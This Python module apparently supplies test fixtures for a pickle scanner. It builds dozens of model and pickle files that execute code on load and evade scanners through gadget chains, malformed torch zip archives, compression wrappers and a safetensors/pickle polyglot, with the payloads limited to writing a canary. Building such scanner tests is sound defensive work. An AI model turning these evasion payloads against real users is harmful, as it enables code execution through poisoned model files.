"""Files that run code when they are loaded, each by another published way past a pickle scanner, with a canary.

`corpus(canary)` maps what a file does to its bytes. Loading any of them would write the canary; nothing here loads.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import torch
import zstandard


class Writes:
    """What a pickle of it does when it is loaded: writes the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (f"open({str(self.canary)!r}, 'w').write('loaded')",)


def corpus(canary: Path) -> dict[str, bytes]:
    """Return the files by what is special about them."""
    plain = dict(_pickles(str(canary))) | dict(_gadgets(str(canary)))
    return plain | dict(_torch(canary)) | dict(_packed(canary)) | dict(_numpy(canary)) | dict(_joblib(canary))


def packed_forms(data: bytes) -> dict[str, bytes]:
    """Return a file packed once in each way that a loader opens by itself, or that wraps it in an archive."""
    return {name: pack(data) for name, pack in PACKERS.items()}


def _pickles(canary: str) -> Iterator[tuple[str, bytes]]:
    code = f"open({canary!r}, 'w').write('loaded')"
    quoted = code.encode()
    for protocol in range(6):
        yield f"exec, protocol {protocol}", pickle.dumps(Writes(Path(canary)), protocol)
    yield "os.system by GLOBAL", b"cos\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    yield "posix.system by INST", b"(S'touch " + canary.encode() + b"'\niposix\nsystem\n."
    yield "eval by OBJ", b"(c__builtin__\neval\nS" + repr(code).encode() + b"\no."
    yield "pip.main (CVE-2025-1716)", b"cpip\nmain\n((lS'install'\naS'x'\natR."
    yield (
        "asyncio subprocess (CVE-2025-10157)",
        b"casyncio.unix_events\n_UnixSubprocessTransport._start\n(tR.",
    )
    yield "a submodule of a listed module", b"cos.path\nos.system\n(S'x'\ntR."
    yield "a name with dots", b"\x80\x04\x8c\x08builtins\x8c\x0bobject.exec\x93)R."
    yield "timeit.timeit", b"ctimeit\ntimeit\n(S" + repr(code).encode() + b"\ntR."
    yield (
        "operator.attrgetter chain",
        (b"coperator\nattrgetter\n(S'system'\ntR(cbuiltins\n__import__\n(S'os'\ntRtR(S'x'\ntR."),
    )
    yield "a name put together on the stack", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x01x\x85R."
    yield "a name from the memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93\x8c\x01x\x85R."
    yield "a name that is computed", b"\x80\x04cbuiltins\nstr\n(S'os'\ntR\x8c\x06system\x93\x8c\x01x\x85R."
    yield "an unknown library's gadget", b"csome_package.loaders\nrun\n(S'x'\ntR."
    yield "breaks after the payload", pickle.dumps(Writes(Path(canary)), 2)[:-1] + b"\xff\xff"
    yield "breaks off after the payload", pickle.dumps(Writes(Path(canary)), 2)[:-1]
    yield "payload in a second pickle", pickle.dumps({"lr": 0.1}) + pickle.dumps(Writes(Path(canary)))
    yield "bytes after the pickle", pickle.dumps({"lr": 0.1}) + b"\0\0\0\0"
    yield "an extension code", b"\x80\x02\x82\x01)R."
    yield "changes a class", b"\x80\x02ccollections\nOrderedDict\n}U\x08__init__cbuiltins\nexec\nsb."
    yield (
        "calls what it computed",
        (b"\x80\x02ccollections\nOrderedDict\n)RU\x04copy\x86R(U" + bytes([len(quoted)]) + quoted + b"tR."),
    )


def _called(module: str, name: str, *arguments: Any) -> bytes:
    """Return a pickle that calls an imported name with plain arguments."""
    given = pickle.dumps(arguments, 0)[:-1]
    return f"c{module}\n{name}\n".encode() + given + b"R."


def _gadgets(canary: str) -> Iterator[tuple[str, bytes]]:
    """Yield calls of what is installed with Python and with training code, by which scanners were passed."""
    code = f"open({canary!r}, 'w').write('loaded')"
    command = f"touch {canary}"
    for module, name, *arguments in (
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", code),
        ("idlelib.autocomplete", "AutoComplete.get_entity", code),
        ("idlelib.calltip", "get_entity", code),
        ("idlelib.debugobj", "ObjectTreeItem.SetText", code),
        ("idlelib.run", "Executive.runcode", code),
        ("lib2to3.pgen2.grammar", "Grammar.loads", code.encode()),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", code),
        ("pdb", "run", code), ("bdb", "Bdb.run", code), ("cProfile", "run", code), ("profile", "Profile.runctx", code),
        ("trace", "Trace.run", code), ("code", "InteractiveInterpreter.runcode", code), ("code", "interact", code),
        ("doctest", "debug_script", code), ("timeit", "main", [code]), ("runpy", "run_path", canary),
        ("pydoc", "pipepager", "x", command), ("pydoc", "locate", "os.system"),
        ("pkgutil", "resolve_name", "os:system"),
        ("importlib", "import_module", "os"), ("ctypes", "CDLL", "x.so"), ("cgitb", "lookup", "x"),
        ("pty", "spawn", command),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", command),
        ("distutils.file_util", "write_file", canary, ["x"]),
        ("_io", "FileIO", canary, "w"), ("io", "open", canary, "w"), ("pathlib", "Path.write_text", canary, "x"),
        ("logging.config", "listen", 9999), ("ssl", "get_server_certificate", ("127.0.0.1", 1)), ("webbrowser", "open", "file:///x"),
        ("uuid", "_get_command_stdout", command), ("functools", "partial", code),
        ("operator", "methodcaller", "system", command),
        ("types", "FunctionType", code), ("marshal", "loads", b"x"),
        ("pickle", "loads", pickle.dumps(Writes(Path(canary)))),
        ("_pickle", "loads", pickle.dumps(Writes(Path(canary)))), ("joblib", "load", canary), ("dill", "loads", b"x"),
        ("torch.storage", "_load_from_bytes", pickle.dumps(Writes(Path(canary)))), ("torch.hub", "load", "x", "y"),
        ("torch.utils.collect_env", "run", command), ("torch.utils._config_module", "ConfigModule.load_config", b"x"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", code, {}),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", b"x"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", code, {}, {}),
        ("torch._dynamo.guards", "GuardBuilder.get", code),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", code),
        ("torch.serialization", "load", canary),
        ("torch._inductor.codecache", "compile_file", canary), ("torch.distributed.rpc", "rpc_sync", "x"),
        ("numpy.f2py.crackfortran", "getlincoef", code, []), ("numpy.f2py.crackfortran", "param_eval", code, {}, {}),
        ("numpy.testing._private.utils", "runstring", code, {}), ("numpy.core", "_ufunc_reconstruct", "os", "system"),
        ("numpy", "load", canary), ("scipy.stats._distn_infrastructure", "rv_generic", code),
        ("pandas", "read_pickle", canary),
        ("sklearn.datasets._base", "load_files", canary), ("transformers", "pipeline", "x"),
        ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x"),
        ("keras.saving", "load_model", canary), ("yaml", "unsafe_load", code), ("jinja2", "Template", code),
        ("sympy", "sympify", code),
        ("nltk.data", "load", canary), ("IPython", "embed", code), ("requests", "get", "http://127.0.0.1:1"),
        ("aiohttp", "request", "GET"),
        ("pip._internal.cli.main", "main", ["install", "x"]), ("setuptools", "setup", code),
        ("ensurepip", "bootstrap", code),
        ("multiprocessing.util", "spawnv_passfds", canary), ("_posixsubprocess", "fork_exec", canary),
        ("sqlite3", "connect", canary),
    ):  # fmt: skip
        yield f"{module}.{name}", _called(str(module), str(name), *arguments)
    called = b"cbuiltins\nexec\n"
    text = b"S" + repr(code).encode() + b"\n"
    yield "a listed function that calls: defaultdict", b"ccollections\ndefaultdict\n(" + called + b"tR."
    yield (
        "a listed function that calls: torch",
        b"ctorch._tensor\n_rebuild_from_type_v2\n(" + called + b"N(" + text + b"tNtR.",
    )
    yield (
        "a listed function that calls: NumPy",
        b"cnumpy.random._pickle\n__generator_ctor\n(" + text + called + b"tR.",
    )
    yield (
        "a listed function that calls: copyreg",
        b"ccopyreg\n_reconstructor\n(" + called + b"c__builtin__\nobject\nNtR.",
    )
    arguments = b"ctransformers.training_args\nTrainingArguments\n"
    yield "arguments that are called", arguments + b"(S'/x'\ntR."
    yield (
        "arguments that are called by another",
        b"ctorch._tensor\n_rebuild_from_type_v2\n(" + arguments + b"N(S'/x'\ntNtR.",
    )
    yield (
        "a payload in an argument of a listed call",
        b"ccollections\nOrderedDict\n(" + called + b"(" + text + b"tRtR.",
    )


def _joblib(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield pickles of joblib with arrays between the opcodes, of objects and of bytes that are opcodes themselves."""
    wrapper = (
        b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\x08\x00\x00\x00subclasscnumpy\nndarray\n"
        b"X\x05\x00\x00\x00shapeK%c\x85X\x05\x00\x00\x00orderX\x01\x00\x00\x00CX\x05\x00\x00\x00dtypecnumpy\ndtype\n"
        b"X\x02\x00\x00\x00%s\x89\x88\x87R(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK%ctbX\x0a\x00\x00\x00allow_mmap\x88ub"
    )
    payload = pickle.dumps(Writes(canary), 2)
    yield "joblib, an array of objects", wrapper % (b"\1", b"O8", b"\x3f") + payload + b"."
    yield (
        "joblib, an array that is opcodes to others",
        wrapper % (bytes([len(payload)]), b"i1", b"\0") + payload + b".",
    )
    yield (
        "joblib, a payload behind an array",
        wrapper % (b"\2", b"i1", b"\0") + b"\xff\xff" + b"0" + payload[2:],
    )
    yield "joblib, an array with a dtype of its own", wrapper % (b"\1", b"V8", b"\1") + payload + b"."


def _torch(canary: Path) -> Iterator[tuple[str, bytes]]:
    evil = {"weight": torch.zeros(2), "x": Writes(canary)}
    whole = _saved(evil)
    yield "torch zip", whole
    yield "torch legacy", _saved(evil, zip_form=False)
    yield "torch zip, wrong CRC (CVE-2025-10156)", _patched(whole, b"PK\x01\x02", 16, b"\1\2\3\4")
    yield "torch zip, flag bit (CVE-2025-1945)", _patched(whole, b"PK\x01\x02", 8, b"\x09\x08")
    yield "torch zip, two names (CVE-2025-1944)", _renamed(whole)
    yield (
        "torch zip, another pickle beside",
        _repacked(_saved({"w": torch.zeros(2)}), "archive/other.pkl", evil),
    )
    yield "torch zip, bytes before", b"\0" * 64 + whole
    yield "torch zip, bytes behind", whole + b"\0" * 64
    yield "torch zip, deflated", _deflated(whole)
    yield "zip in a zip", _zip({"inner.pt": whole})
    yield "torch.load of its own accord", b"\x80\x02ctorch\nload\n(U\x01xtR."
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    yield "legacy magic, then the payload", magic + pickle.dumps(Writes(canary), 2)


def _packed(canary: Path) -> Iterator[tuple[str, bytes]]:
    plain = pickle.dumps(Writes(canary))
    for name, pack in (
        ("gzip", gzip.compress),
        ("zlib", zlib.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ):
        yield f"joblib, {name}", pack(plain)
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as tar:
        member = tarfile.TarInfo("pickle")
        member.size = len(plain)
        tar.addfile(member, io.BytesIO(plain))
    yield "a tar", into.getvalue()
    yield "a 7z", b"7z\xbc\xaf\x27\x1c\0\4" + plain
    yield "a safetensors that is a pickle as well", _polyglot()


def _tarred(data: bytes) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as tar:
        member = tarfile.TarInfo("pickle")
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    return into.getvalue()


def _lz4(data: bytes) -> bytes:
    """Return an LZ4 frame of uncompressed blocks (LZ4 frame format 1.6.4)."""
    blocks = [data[at : at + 65_536] for at in range(0, len(data), 65_536)]
    stored = b"".join(struct.pack("<I", len(each) | 1 << 31) + each for each in blocks)
    return b"\x04\x22\x4d\x18\x60\x40\x82" + stored + bytes(4)


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "zstd": lambda data: zstandard.ZstdCompressor().compress(data),
    "lz4": _lz4,
    "zfile": lambda data: b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data),
    "zip": lambda data: _zip({"model.pkl": data}),
    "zip, deflated": lambda data: _zip({"model.pkl": data}, zipfile.ZIP_DEFLATED),
    "tar": _tarred,
    "tar.gz": lambda data: gzip.compress(_tarred(data)),
}


def _numpy(canary: Path) -> Iterator[tuple[str, bytes]]:
    into = io.BytesIO()
    np.save(into, np.array([Writes(canary)], dtype=object), allow_pickle=True)
    yield "npy with objects", into.getvalue()
    yield "npz with objects", _zip({"arr_0.npy": into.getvalue()})


def _polyglot() -> bytes:
    """Return a valid safetensors file from whose metadata an unpickler (encoding latin1) would import a name.

    The length's low bytes are SHORT_BINSTRING over what stands before the code; BINPUT swallows half of a UTF-8 pair,
    the other half is STACK_GLOBAL.
    """
    swallowed, length = 32, 32 * 256 + ord("U")
    code = "U(" + "m" * 40 + "U(" + "a" * 40 + "q\u0093"
    before = '{"__metadata__":{"x":"'
    header = before + " " * (swallowed - 6 - len(before)) + code + '"}}'
    return struct.pack("<Q", length) + header.encode().ljust(length)


def _saved(value: Any, zip_form: bool = True) -> bytes:
    into = io.BytesIO()
    torch.save(value, into, _use_new_zipfile_serialization=zip_form)
    return into.getvalue()


def _patched(whole: bytes, magic: bytes, offset: int, by: bytes) -> bytes:
    at = whole.index(magic) + offset
    return whole[:at] + by + whole[at + len(by) :]


def _renamed(whole: bytes) -> bytes:
    """Give data.pkl another name in the directory than in its own header."""
    at = whole.rindex(b"archive/data.pkl", 0, whole.rindex(b"PK\x06\x06"))
    return whole[:at] + b"archive/data.pkx" + whole[at + 16 :]


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return into.getvalue()


def _members(whole: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _repacked(whole: bytes, name: str, value: Any) -> bytes:
    return _zip(_members(whole) | {name: pickle.dumps(value["x"])})


def _deflated(whole: bytes) -> bytes:
    return _zip(_members(whole), zipfile.ZIP_DEFLATED)
